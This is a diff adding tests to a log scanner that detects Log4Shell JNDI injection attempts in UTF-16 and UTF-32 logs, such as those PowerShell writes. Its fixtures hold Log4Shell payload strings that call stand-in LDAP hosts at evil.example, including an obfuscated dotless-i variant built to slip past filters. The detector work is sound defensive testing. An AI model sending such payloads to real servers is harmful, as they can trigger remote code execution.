@@ -4,6 +4,7 @@ generated corpora (``bench/scan_logs_corpus.py``)."""
 from __future__ import annotations
 
 import bz2
+import codecs
 import gzip
 import io
 import lzma
@@ -23,9 +24,12 @@ from hypothesis import strategies as st
 from clearinghouse.scan.logs import (
     BLOCK,
     CANDIDATE,
+    KEEP_MARKS,
     OVERLAP,
     LogLimits,
     LogScan,
+    _sniff,
+    _Wide,
     candidate_starts,
     scan_logs,
     scan_stream,
@@ -417,3 +421,116 @@ def test_every_attempt_of_a_line_longer_than_two_blocks_is_found_once_in_linear_
     assert elapsed < 10.0, f"{elapsed:.2f} s"
     assert [f.payload.host for f in scan.findings] == [f"h{n}.evil.example" for n in range(70_000)]
     assert [f.offset for f in scan.findings] == [0, *accumulate(map(len, attempts_on_line[:-1]))]
+
+
+# --- UTF-16 and UTF-32 -------------------------------------------------------------------------
+# Windows PowerShell 5.1 writes UTF-16 by default (``Out-File``, ``>``): each ``$`` is followed
+# by a zero byte there, so a byte scan found nothing in such a log.
+
+WIDE = [
+    ("utf-16-le", codecs.BOM_UTF16_LE, 2),
+    ("utf-16-be", codecs.BOM_UTF16_BE, 2),
+    ("utf-32-le", codecs.BOM_UTF32_LE, 4),
+    ("utf-32-be", codecs.BOM_UTF32_BE, 4),
+    ("utf-16-le", b"", 2),  # no byte-order mark: told by its zero bytes
+    ("utf-16-be", b"", 2),
+]
+WIDE_TEXT = (
+    '10.0.0.1 - - "GET /索引.html HTTP/1.1" 200 512 "curl/8.5.0" 😀\n' * 3
+    + '1.2.3.4 - - "GET /?x=${jndi:ldap://cb.evil.example:1389/a} 用户 HTTP/1.1" 200 1\n'
+    + "\u00e9t\u00e9 \U0001f600\U0001f601 ${jnd${upper:\u0131}:ldap://dotless.example/a}\n"
+)
+
+
+class ShortReads(io.BytesIO):
+    """A stream that returns fewer bytes than asked, as zstandard's reader may."""
+
+    def __init__(self, data: bytes, seed: int) -> None:
+        super().__init__(data)
+        self.rng = random.Random(seed)
+
+    def read(self, size: int | None = -1) -> bytes:
+        return super().read(self.rng.randint(1, 300))
+
+
+def _wide_points(data: bytes, codec: str, unit: int, scan: LogScan) -> list[str]:
+    """What each finding's offset points at in the stream, read in its encoding."""
+    return [data[f.offset : f.offset + 2 * unit].decode(codec) for f in scan.findings]
+
+
+@pytest.mark.parametrize(("codec", "bom", "unit"), WIDE)
+def test_a_utf16_or_utf32_log_is_read_as_its_text_with_offsets_in_the_stream(
+    codec: str, bom: bytes, unit: int
+) -> None:
+    data = bom + WIDE_TEXT.encode(codec)
+    for scan in (stream(data), _short_reads(data, 7)):
+        assert [(f.line, f.payload.host) for f in scan.findings] == [
+            (4, "cb.evil.example"),
+            (5, "dotless.example"),
+        ]
+        assert _wide_points(data, codec, unit, scan) == ["${", "${"]
+        assert scan.findings[0].excerpt.startswith("${jndi:ldap://cb.evil.example:1389/a} 用户")
+        assert (scan.lines, scan.bytes) == (5, len(data))
+
+
+def _short_reads(data: bytes, seed: int) -> LogScan:
+    scan = LogScan()
+    scan_stream("mem", ShortReads(data, seed), scan, LogLimits())
+    return scan
+
+
+@settings(max_examples=60, database=None, deadline=None)
+@given(
+    before=st.text(max_size=300).filter(lambda t: "$" not in t and "\\" not in t),
+    after=st.text(max_size=50).filter(lambda t: "$" not in t),
+    wide=st.sampled_from(WIDE[:4]),
+    seed=st.integers(0, 1000),
+)
+def test_any_text_before_an_attempt_leaves_its_wide_offset_exact(
+    before: str, after: str, wide: tuple[str, bytes, int], seed: int
+) -> None:
+    codec, bom, unit = wide
+    line = before.replace("\n", " ") + "${jndi:ldap://cb.evil.example/a}" + after + "\n"
+    data = bom + line.encode(codec, "surrogatepass")
+    scan = _short_reads(data, seed)
+    assert [f.payload.host for f in scan.findings] == ["cb.evil.example"]
+    assert _wide_points(data, codec, unit, scan) == ["${"]
+
+
+def test_a_long_cjk_utf16_log_keeps_exact_offsets_with_bounded_marks(tmp_path: Path) -> None:
+    # every word a run of non-ASCII characters: a mark each, over more than KEEP_MARKS
+    line = " ".join(["漏洞报告"] * 40) + "\n"
+    lines = [line] * 40_000
+    for n in (5, 19_999, 39_990):
+        lines[n] = f"{line[:30]} ${{jndi:ldap://h{n}.evil.example/a}} {line[30:]}"
+    data = codecs.BOM_UTF16_LE + "".join(lines).encode("utf-16-le")
+    assert len("".join(lines).encode()) > 4 * BLOCK + 1_000_000  # UTF-8: past KEEP_MARKS
+    path = tmp_path / "powershell.log.gz"
+    path.write_bytes(gzip.compress(data, compresslevel=1))
+    scan = scan_logs([path])
+    assert [(f.line, f.payload.host) for f in scan.findings] == [
+        (n + 1, f"h{n}.evil.example") for n in (5, 19_999, 39_990)
+    ]
+    assert _wide_points(data, "utf-16-le", 2, scan) == ["${"] * 3
+    assert (scan.lines, scan.bytes) == (40_000, len(data))
+    # the reader keeps the marks of the last KEEP_MARKS bytes (and a batch), not all
+    reader = _Wide.of(io.BytesIO(data), data[:BLOCK])
+    assert reader is not None
+    most = 0
+    while reader.read(BLOCK):
+        most = max(most, len(reader._marks))
+    per_mark = len(" 漏洞报告".encode())
+    assert most <= (KEEP_MARKS + BLOCK) // per_mark + 1100
+    assert most < "".join(lines).count(" ")
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        b"\x00\x01\x02\x03" * 64,  # binary: zero bytes on both sides
+        "caf\u00e9 ${jndi:ldap://x/a}\n".encode("latin-1") * 20,  # Latin-1: no zero byte
+        b"\x00" * 3,  # too short to tell
+    ],
+)
+def test_bytes_that_are_not_wide_text_are_read_as_they_are(head: bytes) -> None:
+    assert _sniff(head) is None
